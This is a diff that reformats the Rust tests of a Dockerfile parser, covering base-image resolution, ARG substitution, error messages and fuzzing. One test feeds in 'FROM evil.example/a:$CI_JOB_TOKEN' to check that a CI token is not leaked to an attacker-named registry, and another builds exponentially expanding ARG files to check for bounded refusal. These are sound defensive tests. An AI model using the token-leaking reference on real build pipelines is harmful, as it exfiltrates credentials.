@@ -6,10 +6,23 @@ use super::*;
 
 const NONE: &[(&str, &str)] = &[];
 
-fn read(text: &str, given: &[(&str, &str)], environment: &[(&str, &str)]) -> Result<Foundation, DockerfileError> {
-    let given = given.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
+fn read(
+    text: &str,
+    given: &[(&str, &str)],
+    environment: &[(&str, &str)],
+) -> Result<Foundation, DockerfileError> {
+    let given = given
+        .iter()
+        .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
+        .collect();
     let environment = environment.iter().copied().collect();
-    foundation(text, Values { given: &given, environment: &environment })
+    foundation(
+        text,
+        Values {
+            given: &given,
+            environment: &environment,
+        },
+    )
 }
 
 /// Returns the base and its line.
@@ -22,7 +35,10 @@ fn found(text: &str) -> (String, usize) {
 }
 
 fn base(text: &str, given: &[(&str, &str)], environment: &[(&str, &str)]) -> String {
-    match read(text, given, environment).unwrap_or_else(|error| panic!("{text}: {error}")).base {
+    match read(text, given, environment)
+        .unwrap_or_else(|error| panic!("{text}: {error}"))
+        .base
+    {
         Base::Scratch => "scratch".to_owned(),
         Base::Image(image) => image.to_string(),
     }
@@ -36,28 +52,76 @@ fn refused(text: &str) -> String {
 fn the_base_of_the_last_stage_is_found_behind_the_stages_it_builds_on() {
     for (text, image, line) in [
         ("FROM r.example/a:1", "r.example/a:1", 1),
-        ("FROM r.example/a:1\nRUN x\nFROM r.example/b:2\nCOPY --from=0 /x /x\n", "r.example/b:2", 3),
-        ("FROM r.example/a:1 AS one\nFROM r.example/b:2 AS two\nFROM one\n", "r.example/a:1", 1),
-        ("FROM r.example/a:1 AS one\nFROM one AS two\nFROM TWO as three\n", "r.example/a:1", 1),
-        ("FROM r.example/a:1 AS x\nFROM r.example/b:1 AS x\nFROM x", "r.example/b:1", 2),
+        (
+            "FROM r.example/a:1\nRUN x\nFROM r.example/b:2\nCOPY --from=0 /x /x\n",
+            "r.example/b:2",
+            3,
+        ),
+        (
+            "FROM r.example/a:1 AS one\nFROM r.example/b:2 AS two\nFROM one\n",
+            "r.example/a:1",
+            1,
+        ),
+        (
+            "FROM r.example/a:1 AS one\nFROM one AS two\nFROM TWO as three\n",
+            "r.example/a:1",
+            1,
+        ),
+        (
+            "FROM r.example/a:1 AS x\nFROM r.example/b:1 AS x\nFROM x",
+            "r.example/b:1",
+            2,
+        ),
         // A stage is known only below its own line.
-        ("FROM later\nFROM r.example/a:1 AS later\nFROM r.example/b:1", "r.example/b:1", 3),
+        (
+            "FROM later\nFROM r.example/a:1 AS later\nFROM r.example/b:1",
+            "r.example/b:1",
+            3,
+        ),
         ("FROM later\n", "docker.io/library/later", 1),
         ("FROM scratch\nCOPY x /x", "scratch", 1),
-        ("from --platform=$BUILDPLATFORM r.example/a:1 as x\nFrOm --platform=linux/amd64 x", "r.example/a:1", 1),
+        (
+            "from --platform=$BUILDPLATFORM r.example/a:1 as x\nFrOm --platform=linux/amd64 x",
+            "r.example/a:1",
+            1,
+        ),
         (
             "# syntax=docker/dockerfile:1\n\n# FROM no\n  FROM r.example/a@sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
             "r.example/a@sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
             4,
         ),
-        ("\r\nFROM \\\r\n  r.example/a:1 \\\r\n  AS x\r\nRUN y\r\n", "r.example/a:1", 2),
+        (
+            "\r\nFROM \\\r\n  r.example/a:1 \\\r\n  AS x\r\nRUN y\r\n",
+            "r.example/a:1",
+            2,
+        ),
         ("\u{feff}FROM r.example/a:1", "r.example/a:1", 1),
         ("\u{feff}# x\nFROM r.example/a:1", "r.example/a:1", 2),
-        ("FROM r.example/a:1\nRUN cat > /x \\\n  <<EOF\nFROM b\nEOF\nENTRYPOINT []\n", "r.example/a:1", 1),
-        ("# escape=`\nFROM `\n  r.example/a:1\nRUN dir c:\\\nFROM r.example/b:1", "r.example/b:1", 5),
-        ("FROM r.example/a:1\nRUN <<EOF\nFROM no\nEOF\nCOPY <<-'X' <<Y /\nFROM no\n\tX\nFROM no\nY\nUSER x", "r.example/a:1", 1),
-        ("FROM r.example/a:1\nRUN x && \\\n# a comment\n\n  FROM no\n", "r.example/a:1", 1),
-        ("FROM r.example/a:1\nONBUILD RUN x\nHEALTHCHECK CMD x\nSHELL [\"x\"]\nMAINTAINER y", "r.example/a:1", 1),
+        (
+            "FROM r.example/a:1\nRUN cat > /x \\\n  <<EOF\nFROM b\nEOF\nENTRYPOINT []\n",
+            "r.example/a:1",
+            1,
+        ),
+        (
+            "# escape=`\nFROM `\n  r.example/a:1\nRUN dir c:\\\nFROM r.example/b:1",
+            "r.example/b:1",
+            5,
+        ),
+        (
+            "FROM r.example/a:1\nRUN <<EOF\nFROM no\nEOF\nCOPY <<-'X' <<Y /\nFROM no\n\tX\nFROM no\nY\nUSER x",
+            "r.example/a:1",
+            1,
+        ),
+        (
+            "FROM r.example/a:1\nRUN x && \\\n# a comment\n\n  FROM no\n",
+            "r.example/a:1",
+            1,
+        ),
+        (
+            "FROM r.example/a:1\nONBUILD RUN x\nHEALTHCHECK CMD x\nSHELL [\"x\"]\nMAINTAINER y",
+            "r.example/a:1",
+            1,
+        ),
     ] {
         assert_eq!(found(text), (image.to_owned(), line), "{text}");
     }
@@ -66,29 +130,60 @@ fn the_base_of_the_last_stage_is_found_behind_the_stages_it_builds_on() {
 #[test]
 fn arguments_are_taken_from_the_flag_then_the_default_then_the_environment() {
     let text = "ARG TAG=1\nFROM r.example/a:$TAG";
-    assert_eq!(base(text, &[("TAG", "3")], &[("TAG", "2")]), "r.example/a:3");
+    assert_eq!(
+        base(text, &[("TAG", "3")], &[("TAG", "2")]),
+        "r.example/a:3"
+    );
     assert_eq!(base(text, NONE, &[("TAG", "2")]), "r.example/a:1");
-    assert_eq!(base("ARG TAG\nFROM r.example/a:$TAG", NONE, &[("TAG", "2")]), "r.example/a:2");
-    assert_eq!(base("ARG BASE_IMAGE\nFROM $BASE_IMAGE", &[("BASE_IMAGE", "r.example/b:1")], NONE), "r.example/b:1");
+    assert_eq!(
+        base("ARG TAG\nFROM r.example/a:$TAG", NONE, &[("TAG", "2")]),
+        "r.example/a:2"
+    );
+    assert_eq!(
+        base(
+            "ARG BASE_IMAGE\nFROM $BASE_IMAGE",
+            &[("BASE_IMAGE", "r.example/b:1")],
+            NONE
+        ),
+        "r.example/b:1"
+    );
 }
 
 #[test]
 fn references_are_replaced_as_builders_do() {
     for (text, image) in [
-        ("ARG R=r.example\nARG N=${R}/a V=1\nFROM ${N}:${V}", "r.example/a:1"),
-        ("ARG R=\"r.example\" N='a'\nFROM \"$R/$N:1\"", "r.example/a:1"),
+        (
+            "ARG R=r.example\nARG N=${R}/a V=1\nFROM ${N}:${V}",
+            "r.example/a:1",
+        ),
+        (
+            "ARG R=\"r.example\" N='a'\nFROM \"$R/$N:1\"",
+            "r.example/a:1",
+        ),
         ("ARG T\nFROM r.example/a:${T:-1}", "r.example/a:1"),
         ("ARG T=\nFROM r.example/a:${T:-1}", "r.example/a:1"),
         ("ARG T=\nFROM r.example/a${T-:1}", "r.example/a"),
         ("ARG T=2\nFROM r.example/a:1${T:+-x}", "r.example/a:1-x"),
         ("ARG T=2\nFROM r.example/a:${T:?no-tag}", "r.example/a:2"),
-        ("ARG T\nARG U=3\nFROM r.example/a:${T:-${U:-1}}", "r.example/a:3"),
+        (
+            "ARG T\nARG U=3\nFROM r.example/a:${T:-${U:-1}}",
+            "r.example/a:3",
+        ),
         ("FROM r.example/a:${UNKNOWN:-1}", "r.example/a:1"),
         ("ARG A=1\nARG A=2\nFROM r.example/a:$A", "r.example/a:2"),
-        ("ARG S=base\nFROM r.example/a:1 AS base\nFROM $S", "r.example/a:1"),
+        (
+            "ARG S=base\nFROM r.example/a:1 AS base\nFROM $S",
+            "r.example/a:1",
+        ),
         // What is declared in a stage means nothing for FROM.
-        ("ARG A=1\nFROM r.example/a:$A\nARG A=2\nFROM r.example/b:$A", "r.example/b:1"),
-        ("# escape=`\nARG A=x`-y\nFROM r.example/a:$A", "r.example/a:x-y"),
+        (
+            "ARG A=1\nFROM r.example/a:$A\nARG A=2\nFROM r.example/b:$A",
+            "r.example/b:1",
+        ),
+        (
+            "# escape=`\nARG A=x`-y\nFROM r.example/a:$A",
+            "r.example/a:x-y",
+        ),
     ] {
         assert_eq!(base(text, NONE, NONE), image, "{text}");
     }
@@ -102,12 +197,24 @@ fn what_cannot_be_known_is_told_with_its_line() {
         ("RUN x\nFROM a", "line 1: expected FROM"),
         ("FROM a\nFRUM b", "line 2: unknown instruction 'FRUM'"),
         ("FROM a b", "line 1: expected AS"),
-        ("\nARG T\nFROM a:$T", "line 3: `T` has no value: its ARG has no default, and no environment variable of that name is set"),
+        (
+            "\nARG T\nFROM a:$T",
+            "line 3: `T` has no value: its ARG has no default, and no environment variable of that name is set",
+        ),
         ("FROM a:$T", "line 1: `T` is not declared"),
         ("ARG T\nFROM a:${T:?give-a-tag}", "line 2: `T`: give-a-tag"),
-        ("ARG T=1\nFROM a:${T%x}", "line 2: `${T%x}` is no reference to an argument that is understood here"),
-        ("ARG T='1\nFROM a", "line 1: a quote or a brace is not closed"),
-        ("ARG T=\nFROM $T", "line 2: FROM names nothing once its arguments are replaced"),
+        (
+            "ARG T=1\nFROM a:${T%x}",
+            "line 2: `${T%x}` is no reference to an argument that is understood here",
+        ),
+        (
+            "ARG T='1\nFROM a",
+            "line 1: a quote or a brace is not closed",
+        ),
+        (
+            "ARG T=\nFROM $T",
+            "line 2: FROM names nothing once its arguments are replaced",
+        ),
         (
             "FROM a:b:c",
             "line 1: `b:c` is not a tag: tags consist of letters, digits, `_`, `.` and `-`, and start with none of the last two",
@@ -116,13 +223,24 @@ fn what_cannot_be_known_is_told_with_its_line() {
         assert_eq!(refused(text), message, "{text}");
     }
     let hint = |text: &str| read(text, NONE, NONE).expect_err("refused").hint();
-    assert_eq!(hint("ARG T\nFROM a:$T").as_deref(), Some("give it with `--build-arg T=VALUE`"));
+    assert_eq!(
+        hint("ARG T\nFROM a:$T").as_deref(),
+        Some("give it with `--build-arg T=VALUE`")
+    );
 }
 
 #[test]
 fn secrets_of_the_environment_stay_out_of_references() {
-    let error = read("ARG CI_JOB_TOKEN\nFROM evil.example/a:$CI_JOB_TOKEN", NONE, &[("CI_JOB_TOKEN", "hunter2")]).expect_err("refused");
-    assert_eq!(error.to_string(), "line 2: `CI_JOB_TOKEN` is named like a secret and not taken from the environment");
+    let error = read(
+        "ARG CI_JOB_TOKEN\nFROM evil.example/a:$CI_JOB_TOKEN",
+        NONE,
+        &[("CI_JOB_TOKEN", "hunter2")],
+    )
+    .expect_err("refused");
+    assert_eq!(
+        error.to_string(),
+        "line 2: `CI_JOB_TOKEN` is named like a secret and not taken from the environment"
+    );
 }
 
 #[test]
@@ -131,7 +249,8 @@ fn hostile_files_are_refused_in_bounded_time() {
     for level in 1..60 {
         doubling += &format!("ARG A{level}=$A{0}$A{0}\n", level - 1);
     }
-    let many_values = format!("ARG A={}\n", "x".repeat(16_000)) + &"ARG B=$A\n".repeat(50_000) + "FROM a";
+    let many_values =
+        format!("ARG A={}\n", "x".repeat(16_000)) + &"ARG B=$A\n".repeat(50_000) + "FROM a";
     let nested = format!("FROM {}", "${A:-".repeat(3000));
     let began = Instant::now();
     assert!(refused(&(doubling + "FROM a")).contains("longer than 16384 bytes"));
@@ -140,7 +259,11 @@ fn hostile_files_are_refused_in_bounded_time() {
     assert!(refused(&"x".repeat(LONGEST_FILE + 1)).contains("longer than 1024 KiB"));
     let stages = "FROM a AS b\n".repeat(80_000);
     assert_eq!(found(&stages).1, 80_000);
-    assert!(began.elapsed() < Duration::from_secs(20), "{:?}", began.elapsed());
+    assert!(
+        began.elapsed() < Duration::from_secs(20),
+        "{:?}",
+        began.elapsed()
+    );
 }
 
 proptest! {
@@ -159,16 +282,38 @@ const SEEDS: [&str; 3] = [
 
 #[test]
 fn fuzzing_dockerfiles() {
-    let (given, environment) = (BTreeMap::from([("V".to_owned(), "3".to_owned())]), Variables::default());
-    let folder = [Listed { path: "a.txt".to_owned(), kind: ListedKind::File }];
+    let (given, environment) = (
+        BTreeMap::from([("V".to_owned(), "3".to_owned())]),
+        Variables::default(),
+    );
+    let folder = [Listed {
+        path: "a.txt".to_owned(),
+        kind: ListedKind::File,
+    }];
     let target = "linux/arm64".parse().expect("a platform");
     let known = [("PATH".to_owned(), "/bin".to_owned())];
     crate::model::fuzz_tests::fuzz("Dockerfiles", &SEEDS, |input| {
         let text = crate::model::fuzz_tests::text(input);
-        drop(foundation(&text, Values { given: &given, environment: &environment }).map_err(|error| (error.to_string(), error.hint())));
-        let setting = instructions::Setting { arguments: &given, target: Some(&target), environment: Some(&known) };
+        drop(
+            foundation(
+                &text,
+                Values {
+                    given: &given,
+                    environment: &environment,
+                },
+            )
+            .map_err(|error| (error.to_string(), error.hint())),
+        );
+        let setting = instructions::Setting {
+            arguments: &given,
+            target: Some(&target),
+            environment: Some(&known),
+        };
         drop(instructions::steps(&text, &setting).map_err(|error| error.to_string()));
-        let building = Building { arguments: &given, platforms: std::slice::from_ref(&target) };
+        let building = Building {
+            arguments: &given,
+            platforms: std::slice::from_ref(&target),
+        };
         drop(context_files(&text, building, &folder, None).map_err(|error| error.to_string()));
         drop(refusal(&text, &given).map_err(|error| error.to_string()));
     });
@@ -176,15 +321,19 @@ fn fuzzing_dockerfiles() {
 
 #[test]
 fn fuzzing_patterns() {
-    crate::model::fuzz_tests::fuzz("patterns", &["# a\n*.txt\n!a/**/b\n[a-c]?\\*\n", "**/x", "a{b,c}"], |input| {
-        let text = crate::model::fuzz_tests::text(input);
-        if let Ok(ignore) = patterns::Ignore::parse(&text) {
-            ignore.leaves_out("a/b/c.txt");
-        }
-        if let Ok(glob) = patterns::Glob::new(&text) {
-            glob.matches("a/b/c.txt");
-        }
-        let clean = patterns::clean(&text);
-        assert_eq!(patterns::clean(&clean), clean);
-    });
+    crate::model::fuzz_tests::fuzz(
+        "patterns",
+        &["# a\n*.txt\n!a/**/b\n[a-c]?\\*\n", "**/x", "a{b,c}"],
+        |input| {
+            let text = crate::model::fuzz_tests::text(input);
+            if let Ok(ignore) = patterns::Ignore::parse(&text) {
+                ignore.leaves_out("a/b/c.txt");
+            }
+            if let Ok(glob) = patterns::Glob::new(&text) {
+                glob.matches("a/b/c.txt");
+            }
+            let clean = patterns::clean(&text);
+            assert_eq!(patterns::clean(&clean), clean);
+        },
+    );
 }
